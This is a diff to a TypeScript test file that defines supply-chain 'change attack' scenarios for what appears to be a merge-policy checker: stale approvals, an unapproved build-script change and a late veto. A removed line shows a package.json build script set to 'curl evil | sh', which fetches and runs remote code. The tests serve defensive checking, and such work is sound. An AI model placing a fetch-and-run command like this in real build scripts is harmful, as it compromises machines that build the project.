@@ -117,6 +117,30 @@ export const CHANGE_ATTACKS: readonly ChangeAttack[] = [
     },
   },
   {
+    path: "src/old-commit.ts",
+    story: "approved after the last push, but on an older commit",
+    code: "LPS311",
+    why: "given for another commit",
+    play: async (w, path) => {
+      const pull = await opened(w, "bob", path);
+      const seen = w.forge.tip(path) ?? "";
+      w.tick(SECOND);
+      await w.forge.push("bob", path, { [path]: "export const on = false;\n" });
+      for (const by of ["erin", "grace"]) {
+        w.tick(SECOND);
+        await w.forge.review(by, pull, "APPROVED", { commit: seen });
+      }
+      await w.merge(pull, "dan");
+    },
+  },
+  {
+    path: "package.json",
+    story: "what the tool is built from is changed, and nobody approved it",
+    code: "LPS311",
+    why: "counted: nobody",
+    play: (w, path) => w.change({ [path]: '{ "scripts": { "build": "true" } }\n' }, []),
+  },
+  {
     path: "src/veto.ts",
     story: "two approve, and a third maintainer requests changes after the merge",
     code: "LPS311",
@@ -138,7 +162,7 @@ export const CHANGE_ATTACKS: readonly ChangeAttack[] = [
       const pull = await opened(w, "bob", path);
       await approvedBy(w, pull, "erin", "grace");
       await w.merge(pull, "bob", {
-        alter: { "package.json": '{ "scripts": { "build": "curl evil | sh" } }\n' },
+        alter: { "src/hidden.ts": TEXT },
       });
     },
   },
